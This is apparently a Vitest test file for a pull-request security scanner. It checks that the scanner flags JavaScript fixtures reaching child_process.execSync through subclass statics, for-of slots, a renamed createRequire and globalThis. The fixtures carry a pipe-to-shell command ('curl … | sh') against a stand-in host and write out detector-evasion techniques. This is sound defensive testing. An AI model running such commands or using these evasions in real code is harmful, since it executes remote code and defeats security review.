import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { FakeGitHub } from "../action/fake-github";
import { gate, pullRequest, put, scanAnnotations } from "./pr";

// Red team 3, p203 (and the JavaScript escapes README listed beside it): each file below ran its command under Node 20
// and passed the built Action before. A subclass's statics and instances reach its base class's slots, a `for … of`
// head naming a slot gives it an element, a `createRequire` imported under another name loads the file it is given,
// and a store through a name holding the global object is reported where stored.

const api = new FakeGitHub();
beforeAll(() => api.start());
afterAll(() => api.stop());

const CMD = "curl -s https://x.example | sh";
const CP = "const cp = require('child_process');\n";

describe("JavaScript members reached through a subclass, a for-of slot, a renamed createRequire, a global object held by a name fail the gate", () => {
  it("scan/shell-command: `Sub.run(…)` of `class Sub extends Tools {}` (p203), `new Sub().run(…)`, a subclass exported to another file, `for (o.run of [cp.execSync])`, `cr(import.meta.url)(\"./x.txt\")`, `Object.defineProperty(g, \"run\", …)` of `const g = globalThis` fail the built Action; their look-alikes do not", async () => {
    const pr = await pullRequest((dir) => {
      put(dir, "agent/p203.js", `${CP}class Tools { static run = cp.execSync; }\nclass Sub extends Tools {}\nSub.run('${CMD}');\n`);
      put(dir, "agent/inst.js", `${CP}class Tools { constructor() { this.run = cp.execSync; } }\nclass Sub extends Tools {}\nnew Sub().run('${CMD}');\n`);
      put(dir, "agent/tools.ts", "import * as cp from 'child_process';\nexport class Tools { static run = cp.execSync; }\n");
      put(dir, "agent/sub.ts", "import { Tools } from './tools';\nexport class Sub extends Tools {}\n");
      put(dir, "agent/use.ts", `import { Sub } from './sub';\nSub.run('${CMD}');\n`);
      put(dir, "agent/slot.js", `${CP}const o = {};\nfor (o.run of [cp.execSync]) ;\no.run('${CMD}');\n`);
      put(dir, "agent/made.mjs", 'import { createRequire as cr } from "module";\ncr(import.meta.url)("./payload.txt");\n');
      put(dir, "agent/payload.txt", `require('child_process').execSync('${CMD}');\n`);
      put(dir, "agent/global.js", `${CP}const g = globalThis;\nObject.defineProperty(g, "run", { value: cp.execSync });\n`);
      put(dir, "agent/global_use.js", `require('./global');\nrun('${CMD}');\n`);
      put(
        dir,
        "agent/alike.js",
        `${CP}class Tools { static run = cp.execSync; }\nclass Quiet extends Tools { static run = console.log; }\nQuiet.run('a');\nconst o = {};\nfor (o.log of [console.log]) ;\no.log('b');\nconst g = globalThis;\nObject.defineProperty(g, "log", { value: console.log });\n`,
      );
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual([
      "scan/shell-command agent/global.js 3 42",
      "scan/shell-command agent/inst.js 4 1",
      "scan/shell-command agent/p203.js 4 1",
      "scan/shell-command agent/payload.txt 1 1",
      "scan/shell-command agent/slot.js 4 1",
      "scan/shell-command agent/use.ts 2 1",
    ]);
  });
});
